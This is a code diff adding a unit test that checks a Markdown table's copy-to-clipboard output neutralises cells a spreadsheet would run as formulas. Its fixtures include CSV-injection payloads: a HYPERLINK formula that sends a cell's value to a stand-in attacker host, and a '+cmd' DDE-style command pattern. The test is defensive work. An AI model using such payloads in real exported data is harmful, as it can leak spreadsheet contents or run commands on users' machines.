@@ -203,6 +203,17 @@ describe('a table', () => {
     });
   });
 
+  test('[M64] gives no cell that a spreadsheet would run', () => {
+    const cells = ['=HYPERLINK("https://evil.example/"&A1)', '+cmd!A0', '@SUM(A1)', '-5', '+3 %', '@name', '=A1'];
+    const page = draw(`| x |\n|---|\n${cells.map((cell) => `| ${cell.replaceAll('*', '\\*')} |`).join('\n')}`);
+    const flavours = tableFlavours(found(page, '.md-table-frame'));
+    const rows = flavours['text/plain'].split('\n').slice(1);
+    expect(rows.map((row) => row.replace(/^"/, '').charAt(0))).toEqual(["'", "'", "'", '-', '+', '@', '=']);
+    expect(flavours['text/html']).toContain("<td>'@SUM(A1)</td>");
+    expect(flavours['text/html']).toContain('<td>-5</td>');
+    expect(flavours['text/markdown']).toContain('| @SUM(A1) |');
+  });
+
   test('[M64] has a button for that where something can copy', async () => {
     const onCopyTable = vi.fn<MarkdownActions['onCopyTable']>();
     const { rerender } = render(<Markdown text={text} open={false} />);
